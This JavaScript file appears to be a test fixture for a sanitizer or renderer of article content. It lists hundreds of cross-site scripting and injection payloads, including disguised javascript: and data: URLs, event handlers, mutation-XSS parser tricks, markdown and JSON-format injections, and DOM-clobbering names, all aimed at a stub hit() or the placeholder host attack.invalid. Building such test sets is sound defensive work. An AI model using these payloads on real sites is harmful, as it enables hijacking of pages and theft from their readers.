// Attacks on a page by what an article holds, by class. Each would call `hit()`, load something from
// `attack.invalid`, lead the reader away, or take a name of the page, if any of its markup came through.

const js = 'javascript:hit()';
const foreign = 'https://attack.invalid';

/** What hides a scheme from a reader of text, and not from a browser. */
const disguised = [
  js, 'JaVaScRiPt:hit()', ' javascript:hit()', '\u0001javascript:hit()', 'java\tscript:hit()', 'java\nscript:hit()', 'javascript\r\n:hit()',
  'javascript&colon;hit()', '&#106;avascript:hit()', '&#x6A&#x61vascript:hit()', 'javascript&Tab;:hit()', 'vbscript:hit()',
  'data:text/html,<script>hit()</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>',
  'blob:https://attack.invalid/1', 'filesystem:https://attack.invalid/temporary/a', 'view-source:javascript:hit()', 'feed:javascript:hit()', 'javascript://attack.invalid/%0ahit()',
];

/** Each: class, format, source. */
export const attacks = [
  // Elements that run or load.
  ...[
    '<script>hit()</script>', '<SCRIPT SRC=//attack.invalid/a.js></SCRIPT>', '<scr<script>ipt>hit()</scr</script>ipt>', '<script type=module>hit()</script>',
    `<iframe src="${js}"></iframe>`, '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', `<object data="${js}"></object>`, `<embed src="${js}">`,
    `<link rel=stylesheet href=${foreign}/a.css>`, `<link rel=preload as=image href=${foreign}/a>`, `<base href="${foreign}/">`, `<meta http-equiv=refresh content="0;url=${foreign}/">`,
    `<meta http-equiv=refresh content="0;url=${js}">`, '<applet code=a></applet>', `<frameset onload=hit()><frame src=${foreign}></frameset>`, `<portal src=${foreign}></portal>`,
    `<audio src=${foreign}/a onerror=hit() autoplay></audio>`, `<video poster=${js} onloadstart=hit()><source src=${js}></video>`, '<img src=x onerror=hit()>', '<bgsound src=javascript:hit()>',
  ].map((source) => ['elements', 'html', source]),
  // Handlers on elements that stay.
  ...['onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart', 'ontoggle', 'onbeforematch', 'onscrollsnapchange', 'ONERROR', 'on\u0000click'].flatMap((name) => [
    ['handlers', 'html', `<p ${name}="hit()" tabindex=0 autofocus>a</p>`],
    ['handlers', 'html', `<a href=# ${name}=hit()>a</a><details open ${name}=hit()><summary ${name}=hit()>b</summary>c</details>`],
    ['handlers', 'html', `<img alt="a" src="/x" alt='" ${name}="hit()'>`],
  ]),
  // Addresses in every place that takes one.
  ...disguised.flatMap((address) => {
    const quoted = address.replaceAll('"', '&quot;');
    return [
      ['addresses', 'html', `<a href="${quoted}">a</a><q cite="${quoted}">b</q><blockquote cite="${quoted}">c</blockquote><ins cite="${quoted}">d</ins>`],
      ['addresses', 'html', `<img src="${quoted}" alt=a><picture><source srcset="${quoted} 2x"><img srcset="${quoted} 100w" src="/a.png" alt=b></picture>`],
      ['addresses', 'html', `<video src="${quoted}" poster="${quoted}" controls></video><iframe src="${quoted}"></iframe><a href="#" ping="${quoted}">c</a>`],
      ['addresses', 'markdown', `[a](<${address.replace(/[\n<>]/g, '')}>) ![b](<${address.replace(/[\n<>]/g, '')}>) <${address.replace(/[\n<>\s]/g, '')}>\n\n[c]\n\n[c]: <${address.replace(/[\n<>]/g, '')}>`],
      ['addresses', 'article', JSON.stringify({ headline: [{ type: 'text', text: 'A' }], body: [{ type: 'paragraph', content: [{ type: 'link', url: address, content: [{ type: 'text', text: 'a' }] }] }] })],
      ['addresses', 'portable-text', JSON.stringify([{ _type: 'block', markDefs: [{ _key: 'a', _type: 'link', href: address }], children: [{ _type: 'span', text: 'a', marks: ['a'] }] }, { _type: 'image', asset: { url: address } }])],
      ['addresses', 'ninjs', JSON.stringify({ uri: address, type: 'text', version: '1.0', headline: 'A', body_text: 'b', associations: { main: { type: 'picture', uri: address, renditions: { a: { href: address } } } } })],
    ];
  }),
  // Text that means something else to another reader, or on a second reading.
  ...[
    '<noscript><p title="</noscript><img src=x onerror=hit()>">a</p></noscript>', '<style><a title="</style><img src=x onerror=hit()>"></style>', '<textarea><p title="</textarea><img src=x onerror=hit()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">', '<svg><style><img src="</style><img src=x onerror=hit()//">', '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
    '<svg><foreignObject><body onload=hit()></foreignObject><animate attributeName=href values=javascript:hit() /><a><text>b</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=hit() />#x"/></svg>', '<svg><set attributeName=onmouseover to=hit() /></svg>',
    '<math><annotation-xml encoding="text/html"><script>hit()</script></annotation-xml></math>', '<math href="javascript:hit()"><mi>a</mi></math>', '<math><maction actiontype="statusline#http://a" xlink:href="javascript:hit()">a</maction></math>',
    '<template><script>hit()</script></template>', '<xmp><script>hit()</script></xmp>', '<plaintext><script>hit()</script>', '<!--><script>hit()</script>-->', '<!-- --!><img src=x onerror=hit()> -->', '<![CDATA[<img src=x onerror=hit()>]]>', '<?xml version="1.0"?><a xmlns:b="http://www.w3.org/1999/xhtml"><b:script>hit()</b:script></a>',
    '&lt;script&gt;hit()&lt;/script&gt;', '<p>&amp;lt;img src=x onerror=hit()&amp;gt;</p>', '<img src="a\u0000" onerror=hit()>', '<p title="`><img src=x onerror=hit()>`">a</p>', '<a href="a&quot; onclick=&quot;hit()">b</a>', '<select><style></select><img src=x onerror=hit()></style></select>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  ].map((source) => ['second readings', 'html', source]),
  // Style.
  ...[
    `<p style="background:url(${foreign}/a)">a</p>`, '<p style="position:fixed;inset:0;z-index:9999">cover</p>', '<style>body{display:none}</style>', `<style>@import "${foreign}/a.css"</style>`, `<div style="behavior:url(${foreign})">a</div>`, '<p class="sf-hidden reader-bar">a</p>', '<font color="red;background:url(//attack.invalid)">a</font>', `<table background="${foreign}/a"><tr><td background="${foreign}/b">a<td>b<tr><td>c<td>d</table>`,
  ].map((source) => ['style', 'html', source]),
  // Forms and ways out.
  ...[
    `<form action="${foreign}" id=f><input name=a><button formaction="${js}">a</button></form>`, `<input type=image src=${foreign}/a formaction=${js}>`, '<button form=f>a</button><isindex action=javascript:hit()>', `<a href="${foreign}" target=_top rel=opener>a</a>`, '<a href="a" target=hit download>b</a>', `<map name=m><area shape=default href="${js}"></map><img usemap=#m src=/a alt=a>`, '<dialog open>a</dialog><div popover id=p>b</div><button popovertarget=p>c</button>', '<p contenteditable autofocus>a</p>', '<p accesskey=a tabindex=1>b</p>', '<details name=page open>a</details>', `<a href="//attack.invalid\\@example.org">a</a>`, `<a href="https://example.org@attack.invalid/">b</a>`,
  ].map((source) => ['ways out', 'html', source]),
  // Names of the page's own.
  ...['article', 'status', 'findings', 'body', 'cookie', 'getElementById', 'location', 'hit', 'trustedTypes', 'customElements', '__proto__', 'constructor', 'sf-title', 'sf1-title'].flatMap((name) => [
    ['names', 'html', `<h2 id="${name}">a</h2><a name="${name}" href="#${name}">b</a><img name="${name}" src=/a alt=a><p id="${name}">c</p><form name="${name}"></form>`],
    ['names', 'markdown', `## a {#${name}}\n\nb[^${name}]\n\n[^${name}]: c`],
    ['names', 'article', `{"headline":[{"type":"text","text":"A"}],"body":[{"type":"paragraph","id":"${name}","content":[{"type":"noteRef","note":"${name}"}]}],"notes":[{"id":"${name}","content":[]}],"${name}":{"${name}":1}}`],
  ]),
  // Markdown's own ways.
  ...[
    '<script>hit()</script>', 'a <img src=x onerror=hit()> b', '<div onclick="hit()">\n\n*a*\n\n</div>', '[a](/b "c\\" onmouseover=hit() ")', '![a" onerror="hit()](/b)', '![a](/b "c" onerror=hit())', '```js"onload="hit()\na\n```', '~~~<img src=x onerror=hit()>\na\n~~~', '[a]: /b "\\"onclick=\\"hit()"\n\n[a]', '<a href="javascript:hit()">a</a>', '<kbd onclick=hit()>a</kbd>', '`<img src=x onerror=hit()>`', '$<img src=x onerror=hit()>$', '| <img src=x onerror=hit()> |\n| - |\n| <script>hit()</script> |', '[<img src=x onerror=hit()>](/a)', '[a](/b){onclick=hit()}', '## a {onclick=hit() .b #c}', '---\ntitle: <img src=x onerror=hit()>\nlang: \'"><script>hit()</script>\'\nauthor: "<svg onload=hit()>"\ncanonical: javascript:hit()\n---\na', '---\n__proto__:\n  hit: 1\n---\na', '<https://attack.invalid/?"onclick="hit()>', 'https://attack.invalid/"onclick="hit()', '<!-- \n--><script>hit()</script>', '[^a]: <img src=x onerror=hit()>\n\nb[^a]', '- [x] <input onclick=hit()>', '> [!NOTE]<img src=x onerror=hit()>\n> a',
  ].map((source) => ['markdown', 'markdown', source]),
  // Data of another shape than it says.
  ...[
    ['article', '{"headline":"<img src=x onerror=hit()>","body":"<script>hit()</script>"}'],
    ['article', '{"headline":[{"type":"text","text":"<script>hit()</script>"}],"language":"en\\"><script>hit()</script>","body":[{"type":"<script>","content":[]}]}'],
    ['article', '{"headline":[{"type":"text","text":"A"}],"body":[{"type":"embed","url":"https://attack.invalid/","frame":"https://attack.invalid/","title":"<b>","width":1,"height":1}]}'],
    ['article', '{"headline":[{"type":"text","text":"A"}],"body":[{"type":"math","source":"x","mathml":{"tag":"math","attributes":[["href","javascript:hit()"]],"children":[{"tag":"script","children":[]}]}}]}'],
    ['portable-text', '[{"_type":"block","style":"h2\\" onclick=\\"hit()","children":[{"_type":"span","text":"a","marks":["strong\\" onclick=\\"hit()"]}]},{"_type":"html","html":"<img src=x onerror=hit()>"},{"_type":"__proto__"}]'],
    ['wordpress', '{"id":1,"date":"2026-01-01T00:00:00","link":"javascript:hit()","title":{"rendered":"<img src=x onerror=hit()>"},"content":{"rendered":"<p onclick=hit()>a</p><script>hit()</script>"},"excerpt":{"rendered":"<svg onload=hit()>"}}'],
    ['ninjs', '{"uri":"a","type":"text","version":"1.0","language":"\\"><script>","headline":"<script>hit()</script>","body_xhtml":"<p>a</p><img src=x onerror=hit()><iframe src=javascript:hit()></iframe>"}'],
    ['apple-news', '{"version":"1.9","title":"A","components":[{"role":"body","format":"html","text":"<p onclick=hit()>a</p><a href=javascript:hit()>b</a>"},{"role":"embedwebvideo","URL":"javascript:hit()"},{"role":"photo","URL":"javascript:hit()"}]}'],
    ['simorgh', '{"metadata":{"type":"article"},"content":{"model":{"blocks":[{"type":"text","model":{"blocks":[{"type":"paragraph","model":{"text":"a","blocks":[{"type":"urlLink","model":{"text":"b","locator":"javascript:hit()","blocks":[]}}]}}]}}]}}}'],
  ].map(([format, source]) => ['other shapes', format, source]),
  ['text', 'text', '<script>hit()</script>\n\n<img src=x onerror=hit()>\n\njavascript:hit()'],
];
